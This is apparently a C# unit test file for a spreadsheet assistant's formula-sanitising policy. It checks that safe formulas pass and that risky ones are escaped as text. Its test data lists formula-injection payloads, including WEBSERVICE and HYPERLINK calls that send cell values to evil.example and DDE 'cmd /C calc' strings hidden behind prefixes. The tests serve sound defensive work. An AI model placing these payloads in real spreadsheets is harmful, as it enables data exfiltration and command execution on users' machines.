using System.Text.Json;
using GigaOffice.Answers;
using GigaOffice.GigaChat;

namespace GigaOffice.Tests.Answers;

public sealed class FormulaPolicyTests
{
    [Theory]
    [InlineData("=SUM(B2:D2)")]
    [InlineData("=IF(B2>100,\"много\",\"мало\")")]
    [InlineData("=VLOOKUP(A2,'Справочник (2024)'!A:B,2,FALSE)")]
    [InlineData("=ROUND(AVERAGE(B2:B9),2)")]
    [InlineData("=SUMIF(A2:A9,\"Товар A\",B2:B9)+COUNTIF(A2:A9,\">0\")")]
    [InlineData("=INDEX(B2:B9,MATCH(MAX(B2:B9),B2:B9,0))")]
    [InlineData("=TEXT(DATE(2026,1,1),\"dd.mm.yyyy\")")]
    [InlineData("=B2*C2")]
    [InlineData("=\"см. http://example.com\"")]
    [InlineData("-12.5")]
    [InlineData("- пункт списка")]
    [InlineData("Обычный текст")]
    public void Calculation_formulas_and_plain_text_pass(string text) => Assert.Null(FormulaPolicy.Check(text));

    [Theory]
    [InlineData("=WEBSERVICE(\"http://evil.example/\"&B2)")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("=IMPORTXML(\"http://evil.example\",\"//a\")")]
    [InlineData("=IMPORTDATA(\"http://evil.example\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=DDE(\"cmd\",\"/C calc\",\"A0\")")]
    [InlineData("=SUM(1)+WEBSERVICE(\"http://x\")")]
    [InlineData("='http://evil.example/[book.xlsx]Sheet1'!A1")]
    [InlineData("=[1]Sheet1!A1")]
    [InlineData("=INDIRECT(\"A1\")")]
    [InlineData("=ДВССЫЛ(\"A1\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+A1")]
    public void Formulas_that_can_reach_out_are_neutralised_as_text(string text) => Assert.Equal("'" + text, FormulaPolicy.Check(text));

    [Fact]
    public void Apply_covers_table_and_chart_title_and_says_so_in_repairs()
    {
        var answer = new SpreadsheetAnswer
        {
            Text = "ok",
            Table = [[Cell("=SUM(A1:A2)"), Cell("=WEBSERVICE(\"http://e/\")"), JsonSerializer.SerializeToElement(5)]],
            Chart = new ChartSpec { Title = "=HYPERLINK(\"http://e\")" },
            Repairs = ["earlier repair"],
        };
        var safe = FormulaPolicy.Apply(answer);
        Assert.Equal("=SUM(A1:A2)", safe.Table![0][0].GetString());
        Assert.Equal("'=WEBSERVICE(\"http://e/\")", safe.Table[0][1].GetString());
        Assert.Equal(5, safe.Table[0][2].GetInt32());
        Assert.Equal("'=HYPERLINK(\"http://e\")", safe.Chart!.Title);
        Assert.Equal("earlier repair", safe.Repairs![0]);
        Assert.Contains("(2)", safe.Repairs[1]);
        Assert.Same(answer.Text, safe.Text);

        var clean = new SpreadsheetAnswer { Table = [[Cell("=SUM(A1:A2)")]] };
        Assert.Same(clean, FormulaPolicy.Apply(clean));
    }

    private static JsonElement Cell(string text) => JsonSerializer.SerializeToElement(text);
}
